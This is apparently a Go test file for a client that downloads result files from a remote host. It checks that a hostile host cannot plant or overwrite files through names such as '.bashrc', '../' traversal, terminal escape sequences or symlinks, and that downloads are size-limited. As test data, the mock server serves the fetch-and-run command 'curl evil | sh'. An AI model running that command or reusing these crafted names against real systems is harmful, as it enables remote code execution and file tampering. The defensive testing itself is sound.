package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"strongroom.dev/client"
	"strongroom.dev/host"
	"strongroom.dev/room"
	"strongroom.dev/verdict"
	"strongroom.dev/wire"
)

// A host that serves whatever names it likes writes nothing into the directory of results,
// hidden or not, and replaces nothing there.
func TestHostChoosesNoNames(t *testing.T) {
	const result = "counts-lab-00010203"
	for _, files := range [][]string{
		{".bashrc"}, {"study.json"}, {result + ".age", result + ".proof", "a\x1b[2J.proof"}, {"../" + result + ".age"},
		{result + ".age", result + ".proof", result + ".proof"}, {result + ".proof"}, {result + ".age"}, {},
		{result + ".age", result + ".proof"}, // the names are right, what they hold is not
	} {
		dir := t.TempDir()
		mine := map[string]string{".bashrc": "mine", "study.json": "mine"}
		for name, text := range mine {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.Contains(r.URL.Path, "/files/") {
				fmt.Fprint(w, "curl evil | sh # owned")
				return
			}
			json.NewEncoder(w).Encode(host.Info{ID: "x", Requester: "a", Work: "a", Platform: "dev", Started: wire.At(time.Now()), Agreement: wire.DigestOf(nil), Files: files, Shown: []room.Shown{}})
		}))
		a := &app{now: time.Now, homeDir: filepath.Join(dir, "none")}
		err := a.collect(t.Context(), dir, []string{result}, remoteRoom{client.Host{URL: s.URL}, "x"}, wanted{id: "000102030405060708090a0b0c0d0e0f"}, "later")
		s.Close()
		if err == nil || strings.Contains(err.Error(), "\x1b") {
			t.Errorf("%q: %v", files, err)
		}
		entries, err := os.ReadDir(dir)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range entries {
			if data, err := os.ReadFile(filepath.Join(dir, e.Name())); err != nil || string(data) != mine[e.Name()] {
				t.Errorf("%q: %s holds %q, %v", files, e.Name(), data, err)
			}
		}
	}
}

func TestFetchIsBounded(t *testing.T) {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "eleven byte") }))
	defer s.Close()
	r := remoteRoom{client.Host{URL: s.URL}, "x"}
	if err := fetchFile(t.Context(), r, filepath.Join(t.TempDir(), "f"), 10); err == nil || !strings.Contains(err.Error(), "at most 10 bytes") {
		t.Errorf("more than the proof says: %v", err)
	}
	if err := fetchFile(t.Context(), r, filepath.Join(t.TempDir(), "f"), 11); err != nil {
		t.Error(err)
	}
}

func TestResultsReplaceNothing(t *testing.T) {
	dir := t.TempDir()
	if err := placeFor(dir, []string{"counts-lab-00010203"}, 0); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/nowhere", filepath.Join(dir, "counts-lab-00010203.proof")); err != nil {
		t.Fatal(err)
	}
	if err := placeFor(dir, []string{"counts-lab-00010203"}, 0); err == nil {
		t.Error("a name that is taken is taken for a result")
	}
}

// TestLogsBesideResults: logs of the run are no results, and no lie; those of another run are.
func TestLogsBesideResults(t *testing.T) {
	const run, result = "000102030405060708090a0b0c0d0e0f", "counts-lab-00010203"
	for logs, check := range map[string]string{"logs-lab-00010203-1": "", "logs-lab-00010203-12": "", "logs-lab-99999999-1": "result.run",
		"logs-lab-00010203": "result.run", "logs-lab-00010203-x": "result.run", "logs-../x-00010203-1": "result.run"} {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			json.NewEncoder(w).Encode(host.Info{ID: "x", Requester: "a", Work: "a", Platform: "dev", Started: wire.At(time.Now()), Agreement: wire.DigestOf(nil), Shown: []room.Shown{},
				Files: []string{logs + ".age", logs + ".proof", result + ".age", result + ".proof"}})
		}))
		offered, err := offeredResults(t.Context(), remoteRoom{client.Host{URL: s.URL}, "x"}, []string{result}, run)
		s.Close()
		if check == "" && (err != nil || !slices.Equal(offered, []string{result})) || check != "" && (err == nil || verdict.As(err).Check != check) {
			t.Errorf("%s: %q, %v; expected %q", logs, offered, err, check)
		}
	}
}
